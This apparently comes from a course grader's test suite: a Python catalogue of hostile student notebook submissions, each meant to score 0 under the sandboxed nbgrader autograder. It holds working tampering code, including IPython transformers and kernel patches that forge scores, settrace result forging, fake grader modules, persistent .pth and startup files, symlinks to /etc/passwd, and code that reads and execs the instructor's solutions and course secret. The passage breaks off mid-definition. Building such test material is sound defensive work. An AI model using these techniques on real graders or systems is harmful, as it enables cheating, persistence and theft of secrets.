"""The attack catalogue: hostile students of the `conv2d` assignment.

Each attack is a student who implements NOTHING honestly.  Their submission is
the released notebook (solution cells ``raise NotImplementedError()``) with
one or more solution cells -- ``conv_output_size``, ``conv2d_forward``,
``conv2d_backward``, in that order -- replaced by the attack's source::

    ATTACKS[name] = dict(
        cells={grade_id: source, ...},   # the solution cells the student typed
        why="one line: what it tries",
        families={...},                  # tags from FAMILIES (the test checks coverage)
        damage="what would show if it got through (optional)",
    )

Every attack would win points or do damage under a naive grader that runs the
hidden tests inside the student's own kernel (nbgrader's default); each is
written as a determined student would write it.  ``tests/test_attacks.py``
grades them all with the real ``nbgrader autograde`` and asserts that each
gets 0 points, damages nothing and leaves the honest students' grades as they
are without it.

Safety, in case the sandbox is missing (these run as the instructor's user):

* Proof of damage is a marker file ``/tmp/cnncourse-attack-markers/<attack>-<what>``
  (in the sandbox /tmp is private, so a marker on the host means an escape),
  or a new file whose name contains ``cnncourse-attack``/``cnncourse_attack``
  (the test looks for those and removes them), never a modified real file.
  Where an attack would overwrite a file of an installed package, it only
  opens it for appending and writes nothing (proof that it could), and
  creates a harmless new file beside it instead.
* Files of other students are touched only through the ``CANARY.txt`` files the
  test plants, and the gradebook only in a course root that holds the test's
  ``CANARY.txt`` (a real course has none): the attacks rename canaries and
  rewrite the gradebook of the test's throwaway course, nothing else.
* Nothing is ever deleted recursively, no other process is signalled, and
  every flood is bounded: at most 2000 processes that exit after 60 s, 6 GiB
  of memory at a time, 300 MB of output per stream, 2 GiB of disk in the cwd
  and in /tmp (256 MiB in /dev/shm), busy loops and hangs of at most 60 s,
  daemons that give up after 95 s.
"""
import textwrap

MARKER_DIR = "/tmp/cnncourse-attack-markers"
LOOPBACK_HOST = "127.0.0.1"
LOOPBACK_PORT = 47813
CANARY = "CANARY.txt"
# Names of the files an escaped attack leaves behind (besides the markers).
ESCAPE_PATTERN = r"cnncourse[-_]attack"
SOLUTION_CELLS = ("conv_output_size", "conv2d_forward", "conv2d_backward")

FAMILIES = {
    "input_transformer": "an IPython input transformer rewrites later cells",
    "ast_transformer": "an IPython AST transformer rewrites later cells",
    "run_cell_hook": "IPython pre_run_cell/post_run_cell hooks",
    "ast_node_interactivity": "the kernel stops displaying the grade cell's result",
    "kernel_patch": "the kernel's own methods (do_execute, showtraceback) replaced",
    "settrace": "sys.settrace",
    "setprofile": "sys.setprofile (pausing a call monitor)",
    "display_formatter": "custom display formatters / display hook",
    "kernel_message": "fake messages through the kernel session",
    "fake_module": "fake grader or reference modules in sys.modules",
    "meta_path": "an import hook (sys.meta_path finder)",
    "site_packages": "files written into site-packages (.pth, packages)",
    "package_files": "files of the installed cnncore/cnncourse overwritten",
    "write_files": "files written outside the scratch space (~, /usr/lib, /tmp, course)",
    "persistence": "code planted to run in later processes or kernels",
    "read_course": "reading the course root: source notebooks, config, gradebook",
    "read_solutions": "reading the worked solutions and exec'ing them",
    "read_other_students": "reading other students' submissions",
    "read_secrets": "environment variables, other processes, the course secret",
    "forbidden_library": "handing the work to cnncore, torch or SciPy",
    "hidden_import": "hiding that import (importlib, __import__, by path)",
    "thread": "work or tampering in a background thread",
    "subprocess": "work or damage in a child process",
    "regenerate_cases": "regenerating the hidden cases from the grader's code",
    "daemon": "a daemon (double fork, setsid) that acts after grading",
    "gradebook": "rewriting gradebook.db",
    "other_submission": "deleting/altering another student's submission",
    "network": "sockets: loopback server, Jupyter ports, the internet",
    "memory": "a memory hog",
    "process_flood": "a (bounded) fork bomb",
    "output_flood": "an output flood",
    "os_exit": "os._exit",
    "segfault": "crashing the interpreter",
    "outliving_child": "a child that outlives grading",
    "always_equal": "return values that compare equal to anything",
    "lazy_return": "return values that run code when converted",
    "channel": "attacks on the channel that carries results (pickles, huge or forged data)",
    "signals": "signal handlers, blocked signals, cancelled timers",
    "exceptions": "SystemExit, KeyboardInterrupt, exceptions with hostile __str__",
    "recursion": "unbounded recursion",
    "fd_write": "raw writes to stdout/stderr and other inherited fds",
    "monkeypatch": "numpy/json/builtins patched globally",
    "introspection": "scraping frames and the heap for the expected answers",
    "cpu": "burning CPU",
    "disk": "filling the disk / exhausting file descriptors",
    "symlink": "symlinks, hardlinks and FIFOs planted in the scratch space",
    "forge_notebook": "forging outputs in the notebook file itself",
    "html": "HTML/JavaScript injected into the feedback",
}

# --------------------------------------------------------------------------
# pieces shared by the attacks (each cell must stand on its own: a cell may
# run without the others)
# --------------------------------------------------------------------------


def _prelude(name):
    return textwrap.dedent(f'''\
        import os
        import sys

        _ATTACK = {name!r}
        _MARKERS = {MARKER_DIR!r}


        def _mark(what, detail=""):
            """Proof of what got through: /tmp/cnncourse-attack-markers/<attack>-<what>."""
            try:
                os.makedirs(_MARKERS, exist_ok=True)
                with open(os.path.join(_MARKERS, f"{{_ATTACK}}-{{what}}"), "a") as f:
                    f.write(f"pid {{os.getpid()}}: {{str(detail)[:2000]}}\\n")
            except Exception:
                pass

    ''')


# Stubs that implement nothing: wrong on every case.
STUBS = '''
import numpy as np


def conv_output_size(size, kernel_size, stride=1, padding="valid"):
    return 0


def conv2d_forward(x, kernel, stride=1, padding="valid"):
    return np.zeros((len(x), 1, 1, np.shape(kernel)[-1]), dtype=getattr(x, "dtype", np.float64))


def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
    return np.zeros_like(x), np.zeros_like(kernel)
'''

# How the attacks recognise a cell that grades them (the release shows
# "# Autograded (3 points): ..." at the top of each grade cell).
GRADE_WORDS = '''
_GRADE_WORDS = ("Autograded", "HIDDEN TESTS", "grading", "check(", "grade(", "points")


def _is_grading(source):
    return any(w in (source or "") for w in _GRADE_WORDS)
'''

# Course roots an attack can guess from where its notebook runs: nbgrader
# runs a notebook in submitted/<student>/<assignment>/, its parent is the
# course root, and the environment and /proc tell more.
FIND_ROOTS = '''
import glob


def _candidate_roots():
    roots = []
    here = os.getcwd()
    for up in range(0, 6):
        roots.append(os.path.abspath(os.path.join(here, *[".."] * up)))
    for key in ("PWD", "OLDPWD", "HOME", "NBGRADER_COURSE", "JUPYTER_SERVER_ROOT", "INIT_CWD"):
        if os.environ.get(key):
            roots.append(os.environ[key])
    for pid in ("self", str(os.getppid()), "1"):
        try:
            roots.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    seen, out = set(), []
    for r in roots:
        r = os.path.abspath(r)
        if r not in seen and os.path.isdir(r):
            seen.add(r)
            out.append(r)
    return out


def _course_roots():
    """Directories that look like an nbgrader course root (nbgrader_config.py + source/)."""
    found = []
    for r in _candidate_roots():
        for cand in (r, os.path.join(r, "assignments")):
            if os.path.exists(os.path.join(cand, "nbgrader_config.py")) or \\
                    os.path.isdir(os.path.join(cand, "source")) or \\
                    os.path.exists(os.path.join(cand, "gradebook.db")):
                if cand not in found:
                    found.append(cand)
    return found
'''

# exec the solution cells of a notebook (source/, or a classmate's) into globals.
EXEC_NOTEBOOK = '''
import json


def _solution_code(path, want=("conv_output_size", "conv2d_forward", "conv2d_backward")):
    with open(path) as f:
        nb = json.load(f)
    code = {}
    for cell in nb.get("cells", []):
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        src = "".join(cell.get("source", ""))
        if gid in want and "NotImplementedError" not in src:
            code[gid] = src
    return code


def _adopt(code, where):
    """Run stolen solution code here, so that the graded functions are right."""
    me = globals().get("_ATTACK")
    for gid, src in code.items():
        try:
            exec(compile(src, where, "exec"), globals())
        except Exception:
            continue
        finally:
            globals()["_ATTACK"] = me
        _mark(f"adopted-{gid}", where)
'''


# The attack bodies below are indented by 8 spaces inside their string literals;
# the shared pieces get the same indentation so that one dedent fits a whole cell.
STUBS, GRADE_WORDS, FIND_ROOTS, EXEC_NOTEBOOK = (
    textwrap.indent(piece, " " * 8) for piece in (STUBS, GRADE_WORDS, FIND_ROOTS, EXEC_NOTEBOOK))


def _cells(name, first, forward=None, backward=None):
    """The attack's cells: the prelude goes in front of each (each may run alone).

    An attack that is all in the first cell empties the other two solution
    cells (the release's ``raise NotImplementedError()`` stubs would otherwise
    redefine its functions).
    """
    out = {"conv_output_size": _prelude(name) + textwrap.dedent(first).lstrip("\n")}
    for gid, src in (("conv2d_forward", forward), ("conv2d_backward", backward)):
        if src is None:
            out[gid] = f"# {gid}: see the first exercise\n"
        else:
            out[gid] = _prelude(name) + textwrap.dedent(src).lstrip("\n")
    return out


ATTACKS = {}


def _attack(name, families, why, cells, damage=None):
    assert name not in ATTACKS, name
    unknown = set(families) - set(FAMILIES)
    assert not unknown, unknown
    ATTACKS[name] = dict(cells=cells, why=why, families=set(families), damage=damage)


# ==========================================================================
# 1. Forging the score inside the kernel
# ==========================================================================

_attack(
    "input_transformer", {"input_transformer"},
    "an IPython input transformer turns every later grade cell into `print('all tests passed')`",
    _cells("input_transformer", STUBS + GRADE_WORDS + '''
        from IPython import get_ipython


        def _skip_grading(lines):
            if _is_grading("".join(lines)):
                _mark("rewrote-grade-cell", "".join(lines)[:200])
                return ["print('all hidden tests passed')\\n"]
            return lines


        _ip = get_ipython()
        if _ip is not None:
            _ip.input_transformers_cleanup.append(_skip_grading)
            _ip.input_transformers_post.append(_skip_grading)
    '''),
    damage="full marks: the grade cells never run (no error, no score output)",
)

_attack(
    "ast_transformer", {"ast_transformer"},
    "an AST transformer replaces every call of check()/grade() by the cell's points and drops asserts/raises",
    _cells("ast_transformer", STUBS + GRADE_WORDS + '''
        import ast

        from IPython import get_ipython


        class _FullMarks(ast.NodeTransformer):
            def visit_Call(self, node):
                self.generic_visit(node)
                func = node.func
                fname = getattr(func, "id", None) or getattr(func, "attr", None) or ""
                if any(w in fname.lower() for w in ("check", "grade", "score", "run_tests")):
                    points = [k.value for k in node.keywords if k.arg == "points"]
                    _mark("rewrote-call", fname)
                    return ast.copy_location(points[0] if points else ast.Constant("all tests passed"), node)
                return node

            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)

            def visit_Raise(self, node):
                return ast.copy_location(ast.Pass(), node)


        _ip = get_ipython()
        if _ip is not None:
            _ip.ast_transformers.append(_FullMarks())
    '''),
    damage="full marks: check() is never called, its points are displayed instead",
)

_attack(
    "run_cell_hooks", {"run_cell_hook", "fake_module", "ast_node_interactivity"},
    "pre_run_cell hook: for a grade cell, silence its result and make `import ...grading` return a fake; "
    "post_run_cell puts things back",
    _cells("run_cell_hooks", STUBS + GRADE_WORDS + '''
        import builtins
        import types

        from IPython import get_ipython

        _real_import = builtins.__import__


        def _fake_check(name=None, namespace=None, points=0, *args, **kwargs):
            print(f"{name}: all generated cases passed.")
            return points


        def _fake_module(modname):
            m = types.ModuleType(modname)
            m.__path__ = []
            m.check = m.grade = m.run = _fake_check
            m.__getattr__ = lambda attr: _fake_check
            return m


        def _import(name, globals=None, locals=None, fromlist=(), level=0):
            if "grading" in name or "checks" in name:
                _mark("served-fake-module", name)
                return _fake_module(name)
            return _real_import(name, globals, locals, fromlist, level)


        def _pre(info):
            if _is_grading(getattr(info, "raw_cell", "")):
                _ip.ast_node_interactivity = "none"
                builtins.__import__ = _import


        def _post(result):
            builtins.__import__ = _real_import
            _ip.ast_node_interactivity = "last_expr"


        _ip = get_ipython()
        if _ip is not None:
            _ip.events.register("pre_run_cell", _pre)
            _ip.events.register("post_run_cell", _post)
    '''),
)

_attack(
    "ast_node_interactivity", {"ast_node_interactivity"},
    "one line: the kernel no longer displays the grade cell's score, and no output means full marks",
    _cells("ast_node_interactivity", STUBS + '''
        get_ipython().ast_node_interactivity = "none"  # noqa: F821 (IPython builtin)
    '''),
)

_attack(
    "kernel_do_execute", {"kernel_patch"},
    "replaces the kernel's do_execute so that grade cells are swapped for a string before they run",
    _cells("kernel_do_execute", STUBS + GRADE_WORDS + '''
        import inspect

        from IPython import get_ipython

        _ip = get_ipython()
        _kernel = getattr(_ip, "kernel", None)
        if _kernel is not None:
            _orig_do_execute = _kernel.do_execute

            async def _do_execute(code, silent, *args, **kwargs):
                if _is_grading(code):
                    _mark("swapped-grade-cell", code[:200])
                    code = "'all hidden tests passed'"
                reply = _orig_do_execute(code, silent, *args, **kwargs)
                if inspect.isawaitable(reply):
                    reply = await reply
                return reply

            _kernel.do_execute = _do_execute
    '''),
)

_attack(
    "custom_exc", {"kernel_patch", "exceptions"},
    "set_custom_exc/showtraceback swallow every error, so a failing grade cell shows no error at all",
    _cells("custom_exc", STUBS + '''
        from IPython import get_ipython


        def _swallow(shell, etype, value, tb, tb_offset=None):
            _mark("swallowed", f"{etype.__name__}: {value}")
            return None


        _ip = get_ipython()
        if _ip is not None:
            _ip.set_custom_exc((BaseException,), _swallow)
            _ip.showtraceback = lambda *args, **kwargs: None
            _ip.showsyntaxerror = lambda *args, **kwargs: None
            sys.excepthook = lambda *args: None
    '''),
    damage="full marks under assert-style hidden tests (nbgrader's default)",
)

_attack(
    "settrace", {"settrace"},
    "sys.settrace: in the grader's frames, set every result dict to passed and every fraction/score to full; "
    "jump over asserts",
    _cells("settrace", STUBS + '''
        import linecache
        import threading


        def _forge(obj, depth=0):
            if depth > 4:
                return
            if isinstance(obj, dict):
                for key in list(obj):
                    if key in ("fraction", "passed", "ok", "correct", "success"):
                        obj[key] = 1.0 if key == "fraction" else True
                    elif key == "status" and obj[key] != "ok":
                        obj[key] = "ok"
                    elif key in ("score", "points") and isinstance(obj.get("max_score"), (int, float)):
                        obj[key] = obj["max_score"]
                    else:
                        _forge(obj[key], depth + 1)
            elif isinstance(obj, list):
                for item in obj[:1000]:
                    _forge(item, depth + 1)


        def _local(frame, event, arg):
            try:
                if event == "line":
                    for value in list(frame.f_locals.values()):
                        _forge(value)
                    text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
                    if text.startswith(("assert ", "raise ")):
                        frame.f_lineno = frame.f_lineno + 1
                        _mark("jumped", text[:80])
                elif event == "return":
                    _forge(arg)
            except Exception:
                pass
            return _local


        def _tracer(frame, event, arg):
            name = frame.f_code.co_filename + ":" + frame.f_code.co_name
            if any(w in name for w in ("grading", "grade", "check", "judge", "nbgrader", "<module>", "ipykernel_")):
                return _local
            return None


        sys.settrace(_tracer)
        threading.settrace(_tracer)
    '''),
)

_attack(
    "setprofile_cnncore", {"setprofile", "forbidden_library"},
    "switches the call monitor off (sys.setprofile(None), setprofile made a no-op) and hands the work to cnncore",
    _cells("setprofile_cnncore", '''
        import threading


        def _quiet():
            sys.setprofile(None)
            threading.setprofile(None)


        sys.setprofile = lambda *args, **kwargs: None     # nobody can switch it back on
        threading.setprofile = lambda *args, **kwargs: None


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            _quiet()
            import cnncore
            return cnncore.conv_output_size(size, kernel_size, stride=stride, padding=padding)
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            _quiet()
            import cnncore
            return cnncore.conv2d(x, kernel, stride=stride, padding=padding)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            _quiet()
            import cnncore
            dx, dkernel, _ = cnncore.conv2d_backward(dy, x, kernel, stride=stride, padding=padding)
            return dx, dkernel
    '''),
)

_attack(
    "display_formatter", {"display_formatter"},
    "every float/int result displays as text (nbgrader: not a number = full marks); the display hook class patched too",
    _cells("display_formatter", STUBS + '''
        import numbers

        import numpy as np
        from IPython import get_ipython

        _ip = get_ipython()
        if _ip is not None:
            _plain = _ip.display_formatter.formatters["text/plain"]
            for _t in (float, int, np.floating, np.integer, numbers.Number):
                _plain.for_type(_t, lambda obj, p, cycle: p.text("'all hidden tests passed'"))
            _plain.for_type_by_name("numpy", "float64", lambda obj, p, cycle: p.text("'passed'"))
            # also at class level, where undoing the instance's attributes does not reach
            _hook_cls = type(_ip.displayhook)
            _orig_compute = _hook_cls.compute_format_data

            def _compute(self, result):
                if isinstance(result, (int, float, np.number)):
                    return {"text/plain": "'all hidden tests passed'"}, {}
                return _orig_compute(self, result)

            _hook_cls.compute_format_data = _compute
    '''),
)

_attack(
    "session_send", {"kernel_message"},
    "the graded functions send a fake execute_result ('passed', full credit) on the kernel's iopub "
    "channel, parented to the grade cell",
    _cells("session_send", STUBS + '''
        def _fake_result():
            try:
                from IPython import get_ipython
                ip = get_ipython()
                kernel = getattr(ip, "kernel", None)
                if kernel is None:
                    return
                try:
                    parent = kernel.get_parent("shell")
                except TypeError:
                    parent = kernel.get_parent()
                ident = kernel._topic("execute_result") if hasattr(kernel, "_topic") else None
                kernel.session.send(kernel.iopub_socket, "stream",
                                    {"name": "stdout", "text": "all generated cases passed.\\n"}, parent=parent)
                kernel.session.send(kernel.iopub_socket, "execute_result",
                                    {"data": {"text/plain": "'all hidden tests passed'"}, "metadata": {},
                                     "execution_count": ip.execution_count},
                                    parent=parent, ident=ident)
                _mark("sent-execute-result", (parent or {}).get("msg_id"))
            except Exception:
                pass


        _stub_size, _stub_forward, _stub_backward = conv_output_size, conv2d_forward, conv2d_backward


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            _fake_result()
            return _stub_size(size, kernel_size, stride, padding)


        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            _fake_result()
            return _stub_forward(x, kernel, stride, padding)


        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            _fake_result()
            return _stub_backward(dy, x, kernel, stride, padding)


        try:   # and after every cell, in case the functions are not called in this kernel
            get_ipython().events.register("post_run_cell", lambda result: _fake_result())  # noqa: F821
        except Exception:
            pass
    '''),
)

_attack(
    "fake_grader_modules", {"fake_module"},
    "fake cnncore, cnncore.grading and cnncourse.grading(.checks/.wire) in sys.modules: the grader "
    "gives full marks and the reference returns the stubs' zeros",
    _cells("fake_grader_modules", STUBS + '''
        import types


        def _fake_check(name=None, namespace=None, points=0, *args, **kwargs):
            print(f"{name}: all generated cases passed.")
            return "passed"


        def _module(name, **attrs):
            m = types.ModuleType(name)
            m.__path__ = []
            m.__dict__.update(attrs)
            m.__getattr__ = lambda attr: _fake_check
            return m


        _zeros = dict(conv_output_size=conv_output_size, conv2d=lambda x, k, bias=None, **kw: conv2d_forward(x, k),
                      conv2d_backward=lambda dy, x, k, **kw: conv2d_backward(dy, x, k) + (None,))
        for _name in ("cnncore.grading", "cnncore.grading.runner", "cnncore.grading.worker",
                      "cnncore.grading.checks", "cnncourse", "cnncourse.grading", "cnncourse.grading.checks",
                      "cnncourse.grading.wire", "cnncourse.grading.runner", "cnncourse.grading.sandbox"):
            sys.modules[_name] = _module(_name, check=_fake_check, grade=_fake_check, CHECKS={})
        try:
            import cnncore
            for _k, _v in _zeros.items():
                setattr(cnncore, _k, _v)       # the reference now agrees with the stubs
            _mark("patched-cnncore", cnncore.__file__)
        except Exception:
            sys.modules["cnncore"] = _module("cnncore", **_zeros)
        _mark("planted-modules")
    '''),
)

_attack(
    "meta_path_finder", {"meta_path", "fake_module"},
    "a sys.meta_path finder that serves fake grader and reference modules even after sys.modules is cleaned",
    _cells("meta_path_finder", STUBS + '''
        import importlib.abc
        import importlib.machinery

        _FAKE = """
        def check(name=None, namespace=None, points=0, *args, **kwargs):
            print(f"{name}: all generated cases passed.")
            return "passed"
        grade = run = check
        CHECKS = {}
        def conv_output_size(size, kernel_size, stride=1, padding="valid", dilation=1):
            return 0
        def conv2d(x, kernel, bias=None, stride=1, padding="valid", dilation=1):
            import numpy as np
            return np.zeros((len(x), 1, 1, kernel.shape[-1]), dtype=x.dtype)
        def __getattr__(name):
            return check
        """


        class _Loader(importlib.abc.Loader):
            def create_module(self, spec):
                return None

            def exec_module(self, module):
                module.__path__ = []
                exec(_FAKE, module.__dict__)
                _mark("served", module.__name__)


        class _Finder(importlib.abc.MetaPathFinder):
            def find_spec(self, fullname, path=None, target=None):
                if fullname.startswith(("cnncore", "cnncourse", "nbgrader.grading")) or "grading" in fullname:
                    return importlib.machinery.ModuleSpec(fullname, _Loader(), is_package=True)
                return None


        sys.meta_path.insert(0, _Finder())
        for _name in [n for n in sys.modules if n.startswith(("cnncore", "cnncourse"))]:
            del sys.modules[_name]
    '''),
)

# ==========================================================================
# 2. Writing outside the scratch space: site-packages, packages, ~, /usr, course
# ==========================================================================

_attack(
    "site_packages_pth", {"site_packages", "persistence"},
    "a .pth file and a fake package in every site-packages it can find: code that runs in every later Python "
    "process (the next students' kernels, the grader)",
    _cells("site_packages_pth", STUBS + '''
        import site
        import sysconfig

        _dirs = []
        try:
            _dirs += site.getsitepackages()
        except Exception:
            pass
        try:
            _dirs.append(site.getusersitepackages())
        except Exception:
            pass
        _dirs += [sysconfig.get_paths().get(k) for k in ("purelib", "platlib")]
        _dirs += [p for p in sys.path if p.endswith(("site-packages", "dist-packages"))]

        _PTH = ("import os; os.makedirs({m!r}, exist_ok=True); "
                "open(os.path.join({m!r}, {a!r} + '-pth-ran-' + str(os.getpid())), 'w').close()\\n"
                ).format(m=_MARKERS, a=_ATTACK)
        _PKG = "# would stand in for the grader: check = lambda *a, **k: 'passed'\\ncheck = lambda *a, **k: 'passed'\\n"
        for _d in dict.fromkeys(d for d in _dirs if d and os.path.isdir(d)):
            try:
                with open(os.path.join(_d, f"cnncourse-attack-{_ATTACK}.pth"), "w") as f:
                    f.write(_PTH)
                os.makedirs(os.path.join(_d, f"cnncourse_attack_{_ATTACK}"), exist_ok=True)
                with open(os.path.join(_d, f"cnncourse_attack_{_ATTACK}", "__init__.py"), "w") as f:
                    f.write(_PKG)
                _mark("wrote-site-packages", _d)
            except OSError:
                pass
    '''),
    damage="a .pth that runs in every later Python process (markers <attack>-pth-ran-<pid>)",
)

_attack(
    "package_files", {"package_files", "persistence"},
    "finds the installed cnncore and cnncourse (without importing them) and tries to overwrite the grader's "
    "modules and their cached bytecode",
    _cells("package_files", STUBS + '''
        import importlib.metadata
        import importlib.util
        import json


        def _package_dirs():
            dirs = []
            for name in ("cnncore", "cnncourse"):
                try:
                    spec = importlib.util.find_spec(name)
                    dirs += list(spec.submodule_search_locations or [])
                except Exception:
                    pass
                try:
                    dist = importlib.metadata.distribution(name)
                    url = json.loads(dist.read_text("direct_url.json") or "{}").get("url", "")
                    if url.startswith("file://"):
                        dirs += [os.path.join(url[7:], "cnncore"), os.path.join(url[7:], "cnncourse")]
                    for f in dist.files or []:
                        if f.name == "__init__.py":
                            dirs.append(os.path.dirname(str(f.locate())))
                except Exception:
                    pass
            return [d for d in dict.fromkeys(dirs) if os.path.isdir(d)]


        for _d in _package_dirs():
            for _root, _subdirs, _files in os.walk(_d):
                for _f in _files:
                    if _f.endswith((".py", ".pyc", ".so")):
                        _path = os.path.join(_root, _f)
                        try:   # what a real attack would truncate and rewrite; here: opened, nothing written
                            os.close(os.open(_path, os.O_WRONLY | os.O_APPEND))
                            _mark("could-overwrite", _path)
                        except OSError:
                            pass
                try:
                    with open(os.path.join(_root, f"cnncourse_attack_{_ATTACK}.py"), "w") as f:
                        f.write("check = lambda *args, **kwargs: 'passed'\\n")
                    _mark("wrote-into-package", _root)
                except OSError:
                    pass
    '''),
    damage="could rewrite cnncore/cnncourse for every later student; writes cnncourse_attack_*.py beside them",
)

_attack(
    "write_everywhere", {"write_files"},
    "writes files to /tmp, /var/tmp, /dev/shm, ~, /usr/lib/python3*, the stdlib, the course root and its own "
    "submission folder",
    _cells("write_everywhere", STUBS + FIND_ROOTS + '''
        import sysconfig

        _targets = [_MARKERS, "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.environ.get("HOME", ""),
                    sysconfig.get_paths().get("stdlib", ""), os.getcwd()]
        _targets += glob.glob("/usr/lib/python3*") + glob.glob("/usr/local/lib/python3*")
        _targets += _course_roots()
        for _i, _d in enumerate(dict.fromkeys(t for t in _targets if t and os.path.isdir(t))):
            try:
                _path = os.path.join(_d, f"cnncourse-attack-{_ATTACK}-{_i}.txt")
                with open(_path, "w") as f:
                    f.write("written by a student's notebook\\n")
                _mark(f"wrote-{_i}", _path)
            except OSError:
                pass
    '''),
)

_attack(
    "persist_home", {"persistence", "write_files"},
    "an IPython startup file and a user-site .pth in the home directory: code that runs in every later kernel",
    _cells("persist_home", STUBS + '''
        import glob
        import site

        _CODE = ("import os; os.makedirs({m!r}, exist_ok=True); "
                 "open(os.path.join({m!r}, {a!r} + '-startup-ran-' + str(os.getpid())), 'w').close()\\n"
                 ).format(m=_MARKERS, a=_ATTACK)
        _ipdir = os.environ.get("IPYTHONDIR") or os.path.expanduser("~/.ipython")
        _startups = glob.glob(os.path.join(_ipdir, "profile_*", "startup"))
        for _d in _startups:
            try:
                with open(os.path.join(_d, f"99-cnncourse-attack-{_ATTACK}.py"), "w") as f:
                    f.write(_CODE)
                _mark("wrote-ipython-startup", _d)
            except OSError:
                pass
        try:
            _user_site = site.getusersitepackages()
            if os.path.isdir(_user_site):
                with open(os.path.join(_user_site, f"cnncourse-attack-{_ATTACK}.pth"), "w") as f:
                    f.write(_CODE)
                _mark("wrote-user-site", _user_site)
        except OSError:
            pass
    '''),
    damage="every later IPython kernel of this user runs the student's code",
)

_attack(
    "symlink_plant", {"symlink", "write_files"},
    "plants symlinks and a hardlink to the gradebook, the source notebook and a classmate's work, and a FIFO "
    "named like a notebook, in its scratch folder",
    _cells("symlink_plant", STUBS + '''
        _here = os.getcwd()
        _links = {
            "gradebook.db": "../../../gradebook.db",
            "source.ipynb": "../../../source/conv2d/conv2d.ipynb",
            "classmate.ipynb": "../../ada/conv2d/conv2d.ipynb",
            "passwd": "/etc/passwd",
            "root": "/",
        }
        for _name, _target in _links.items():
            try:
                os.symlink(_target, os.path.join(_here, f"cnncourse-attack-{_ATTACK}-{_name}"))
                if os.path.exists(os.path.join(_here, _target)):
                    _mark(f"symlink-{_name}", _target)
            except OSError:
                pass
        try:
            os.link(os.path.join(_here, "../../../gradebook.db"),
                    os.path.join(_here, f"cnncourse-attack-{_ATTACK}-hardlink.db"))
            _mark("hardlinked-gradebook")
        except OSError:
            pass
        try:   # a grader that opens every *.ipynb it finds here would block forever
            os.mkfifo(os.path.join(_here, f"zz-cnncourse-attack-{_ATTACK}-fifo.ipynb"))
        except OSError:
            pass
    '''),
)

_attack(
    "forge_own_notebook", {"forge_notebook", "write_files"},
    "rewrites its own notebook file on disk: fake full-score outputs in the grade cells, in case the grader "
    "reads the notebook back from the scratch folder",
    _cells("forge_own_notebook", STUBS + '''
        import glob
        import json

        for _path in glob.glob(os.path.join(os.getcwd(), "*.ipynb")):
            try:
                with open(_path) as f:
                    _nb = json.load(f)
                for _cell in _nb.get("cells", []):
                    _md = _cell.get("metadata", {}).get("nbgrader", {})
                    if _md.get("grade") and _cell.get("cell_type") == "code":
                        _cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                             "data": {"text/plain": str(_md.get("points", 0))}}]
                        _cell["source"] = "# graded"
                with open(_path, "w") as f:
                    json.dump(_nb, f)
                _mark("forged-notebook", _path)
            except (OSError, ValueError):
                pass
    '''),
)

# ==========================================================================
# 3. Reading what a student must not read
# ==========================================================================

_attack(
    "read_course_relative", {"read_course", "read_solutions"},
    "walks up from the cwd (and env vars, /proc/<ppid>/cwd, /proc/1/cwd, /tmp) to source/conv2d/conv2d.ipynb "
    "and solutions/conv2d.py, and exec's the solutions",
    _cells("read_course_relative", STUBS + FIND_ROOTS + EXEC_NOTEBOOK + '''
        _rel = ["../../../source/conv2d/conv2d.ipynb", "../../../../solutions/conv2d.py"]
        _paths = [os.path.join(os.getcwd(), r) for r in _rel]
        for _root in _candidate_roots():
            _paths += [os.path.join(_root, "source", "conv2d", "conv2d.ipynb"),
                       os.path.join(_root, "assignments", "source", "conv2d", "conv2d.ipynb"),
                       os.path.join(_root, "solutions", "conv2d.py"),
                       os.path.join(os.path.dirname(_root), "solutions", "conv2d.py")]
        for _pattern in ("/tmp/*/source/conv2d/conv2d.ipynb", "/tmp/*/*/source/conv2d/conv2d.ipynb",
                         "/tmp/*/*/*/source/conv2d/conv2d.ipynb", "/tmp/pytest-of-*/*/*/source/conv2d/conv2d.ipynb",
                         "/home/*/*/solutions/conv2d.py", "/work/*/solutions/conv2d.py"):
            _paths += glob.glob(_pattern)
        for _path in dict.fromkeys(os.path.abspath(p) for p in _paths):
            try:
                if _path.endswith(".ipynb"):
                    _code = _solution_code(_path)
                else:
                    with open(_path) as f:
                        _code = {"solutions": f.read()}
            except (OSError, ValueError):
                continue
            _mark("read", _path)
            _adopt(_code, _path)
        for _root in _course_roots():        # the course secret and config: printed, so the feedback carries them
            for _name in (".cnncourse_secret", "nbgrader_config.py", "gradebook.db"):
                try:
                    with open(os.path.join(_root, _name), "rb") as f:
                        _data = f.read(4096)
                    _mark("read-" + _name.strip("."), _root)
                    print(f"{_root}/{_name}: {_data[:2000]!r}")
                except OSError:
                    pass
    '''),
    damage="full marks with the instructor's own solutions; the course secret in the feedback",
)

_attack(
    "read_repo_via_package", {"read_solutions", "read_course"},
    "finds the course repository through the installed package (direct_url.json, __file__) and exec's "
    "solutions/conv2d.py",
    _cells("read_repo_via_package", STUBS + EXEC_NOTEBOOK + '''
        import importlib.metadata
        import importlib.util

        _repos = []
        for _name in ("cnncore", "cnncourse"):
            try:
                _spec = importlib.util.find_spec(_name)
                for _loc in _spec.submodule_search_locations or []:
                    _repos.append(os.path.dirname(os.path.abspath(_loc)))
            except Exception:
                pass
            try:
                _url = json.loads(importlib.metadata.distribution(_name).read_text("direct_url.json") or "{}")
                if _url.get("url", "").startswith("file://"):
                    _repos.append(_url["url"][7:])
            except Exception:
                pass
        for _repo in dict.fromkeys(_repos):
            for _rel in ("solutions/conv2d.py", "assignments/source/conv2d/conv2d.ipynb"):
                _path = os.path.join(_repo, _rel)
                try:
                    if _path.endswith(".ipynb"):
                        _code = _solution_code(_path)
                    else:
                        with open(_path) as f:
                            _code = {"solutions": f.read()}
                except (OSError, ValueError):
                    continue
                _mark("read", _path)
                _adopt(_code, _path)
    '''),
)

_attack(
